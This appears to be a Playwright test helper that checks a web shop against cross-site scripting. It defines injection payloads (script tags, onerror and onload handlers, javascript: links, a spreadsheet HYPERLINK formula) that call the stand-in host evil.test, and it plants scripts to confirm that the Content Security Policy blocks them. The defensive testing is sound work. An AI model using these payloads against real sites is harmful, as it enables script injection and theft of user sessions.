import path from 'node:path';
import type {
  Browser,
  BrowserContext,
  Page,
  PlaywrightWorkerArgs,
  TestInfo,
} from '@playwright/test';
import { publicUrl, type Person, type TestShop } from '#test/harness.ts';
import { startPageShop } from '#test/page-shop.ts';
import { signInAs } from './sign-in-as.ts';

/** The host that injected code would load from. */
const evil = '//evil.test';

/**
 * Texts that try to become part of the page they are shown on. Everything they would add carries the class `hostile`,
 * everything they would run opens a dialog, everything they would load comes from `evil.test`.
 */
export const hostile = {
  name: `</title></script><script class=hostile>alert(1)</script><b class=hostile>{{7*7}}`,
  line: `"'><img class=hostile src=${evil}/i onerror=alert(2)><svg class=hostile onload=alert(3)>`,
  short: '"onfocus=alert(4) <b class=hostile>',
  sheet: '=HYPERLINK("http://evil.test/","hostile")',
  link: `https://example.com/"><img class=hostile src=${evil} onerror=alert(5)>`,
  script: 'javascript:alert("hostile")',
  long: [
    `</textarea><script class=hostile src=${evil}/s></script><iframe class=hostile srcdoc="<script>alert(6)</script>"></iframe>`,
    `<a class=hostile href="javascript:alert(7)">click</a><style class=hostile>*{background:url(${evil}/c)}</style>`,
    `<math><mtext><img class=hostile src=x onerror=alert(8)></mtext></math>\${7*7}<%=7*7%> --><!-- ]]>`,
    `&lt;img class=hostile src=x onerror=alert(9)&gt; \\u003cscript\\u003ealert(10)\\u003c/script\\u003e`,
  ].join('\n'),
} as const;

/** Matches whatever could have been injected: elements of the texts above, and any handler, frame or script link. */
export const injected =
  '.hostile, [onerror], [onload], [onclick], [onfocus], iframe, object, embed, base, a[href^="javascript:" i], a[href^="data:" i]';

/** A shop and a Chromium that opens it at its public address. */
export interface HostileShop {
  readonly shop: TestShop;
  readonly browser: Browser;
  /** Signs of an injection: dialogs, requests to others, blocked scripts. */
  readonly heard: string[];
  /** A browser of one person; signed in when given. */
  open(
    person?: Person,
    options?: { javaScriptEnabled: boolean },
  ): Promise<{ context: BrowserContext; page: Page }>;
  close(): Promise<void>;
}

/** Starts both; the pages are the built ones with the headers of production. */
export async function startHostileShop(
  { playwright }: Pick<PlaywrightWorkerArgs, 'playwright'>,
  { project }: TestInfo,
): Promise<HostileShop> {
  const shop = await startPageShop();
  // The browser decides by its own clock whether a session has expired.
  shop.clock.advance(Date.now() - shop.clock.now().getTime());
  const { host } = new URL(publicUrl);
  const { args = [], ...launch } = project.use.launchOptions ?? {};
  const browser = await playwright.chromium.launch({
    ...launch,
    args: [
      ...args,
      `--host-resolver-rules=MAP ${host}:80 ${new URL(shop.address).host}`,
      `--unsafely-treat-insecure-origin-as-secure=${publicUrl}`,
    ],
  });
  const heard: string[] = [];
  return {
    shop,
    browser,
    heard,
    async open(person, options = { javaScriptEnabled: true }) {
      const context = await browser.newContext({ baseURL: publicUrl, ...options });
      listen(context, heard);
      if (person !== undefined) await signInAs(context, person);
      return { context, page: await context.newPage() };
    },
    async close() {
      await browser.close();
      await shop.close();
    },
  };
}

function listen(context: BrowserContext, heard: string[]): void {
  context.on('dialog', (dialog) => {
    heard.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (/^https?:$/.test(protocol) && origin !== publicUrl)
      heard.push(`foreign request: ${request.url()}`);
  });
  context.on('console', (message) => {
    if (message.text().includes('Content Security Policy'))
      heard.push(`blocked: ${message.text()}`);
  });
}

/** A picture a form can send. */
export const picture = path.join(
  import.meta.dirname,
  '..',
  '..',
  'web',
  'public',
  'pictures',
  'alternator.webp',
);

/** Adds what an injection would; answers the CSP directives that blocked it, or that something ran. */
export async function plant(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const stopped = new Set<string>();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      stopped.add(effectiveDirective),
    );
    const inline = document.createElement('script');
    inline.textContent = 'window.planted = "inline script"';
    document.body.append(inline);
    const foreign = document.createElement('script');
    foreign.src = 'http://evil.test/planted.js';
    document.body.append(foreign);
    document.body.insertAdjacentHTML(
      'beforeend',
      `<img src="/nothing-here.webp" onerror="window.planted = 'handler'"><svg onload="window.planted = 'svg'"></svg>
       <img src="http://evil.test/pixel"><iframe src="http://evil.test/"></iframe>`,
    );
    await fetch('http://evil.test/').catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 300));
    const ran = (window as unknown as { planted?: string }).planted;
    return ran === undefined ? [...stopped].toSorted() : [`ran: ${ran}`];
  });
}
